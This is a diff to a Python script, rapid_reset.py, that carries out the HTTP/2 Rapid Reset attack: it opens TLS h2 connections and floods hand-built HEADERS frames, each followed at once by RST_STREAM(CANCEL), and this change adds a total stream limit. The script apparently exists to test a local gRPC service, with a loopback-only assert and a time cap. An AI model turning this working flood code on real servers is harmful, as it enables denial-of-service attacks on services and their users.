@@ -4,10 +4,12 @@
 Opens CONNECTIONS TLS connections (ALPN h2) and on each sends, as fast as it can, a HEADERS frame
 that starts a call (POST to a real method) followed at once by RST_STREAM(CANCEL) for it. Frames
 are written by hand: one HPACK block without dynamic-table state serves every stream. Bounded:
-stops after SECONDS. Prints the streams started and reset. For tests and measurements against
+stops after SECONDS or once STREAMS were started (a volume that does not depend on how much CPU
+the attacker gets). Prints the streams started and reset. For tests and measurements against
 services this machine runs on loopback only.
 
-  rapid_reset.py HOST:PORT [--seconds 10] [--connections 4] [--path /converge.store.v1.StoreService/Pull]
+  rapid_reset.py HOST:PORT [--seconds 10] [--streams 300000] [--connections 4]
+                  [--path /converge.store.v1.StoreService/Pull]
 """
 import argparse
 import multiprocessing
@@ -44,14 +46,14 @@ def header_block(authority, path):
             + bytes([0x00, 2]) + b"te" + bytes([8]) + b"trailers")
 
 
-def attack(host, port, seconds, path, out):
+def attack(host, port, seconds, streams, path, out):
     ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
     ctx.check_hostname = False
     ctx.verify_mode = ssl.CERT_NONE
     ctx.set_alpn_protocols(["h2"])
     started = 0
     deadline = time.monotonic() + seconds
-    while time.monotonic() < deadline:
+    while time.monotonic() < deadline and started < streams:
         try:
             raw = socket.create_connection((host, port), timeout=5)
             conn = ctx.wrap_socket(raw, server_hostname="localhost")
@@ -59,7 +61,7 @@ def attack(host, port, seconds, path, out):
             block = header_block(f"{host}:{port}", path)
             stream = 1
             conn.setblocking(False)
-            while time.monotonic() < deadline and stream < (1 << 31) - 2000:
+            while time.monotonic() < deadline and stream < (1 << 31) - 2000 and started < streams:
                 batch = []
                 for _ in range(200):
                     batch.append(frame(HEADERS, END_HEADERS, stream, block))
@@ -89,6 +91,7 @@ def main():
     p = argparse.ArgumentParser()
     p.add_argument("target")
     p.add_argument("--seconds", type=float, default=10)
+    p.add_argument("--streams", type=int, default=1 << 40, help="in all, over the connections")
     p.add_argument("--connections", type=int, default=4)
     p.add_argument("--path", default="/converge.store.v1.StoreService/Pull")
     a = p.parse_args()
@@ -96,7 +99,8 @@ def main():
     assert host in ("127.0.0.1", "localhost", "::1"), "loopback targets only"
     a.seconds = min(a.seconds, 120)
     out = multiprocessing.Queue()
-    procs = [multiprocessing.Process(target=attack, args=(host, int(port), a.seconds, a.path, out))
+    each = -(-a.streams // a.connections)
+    procs = [multiprocessing.Process(target=attack, args=(host, int(port), a.seconds, each, a.path, out))
              for _ in range(a.connections)]
     for proc in procs:
         proc.start()
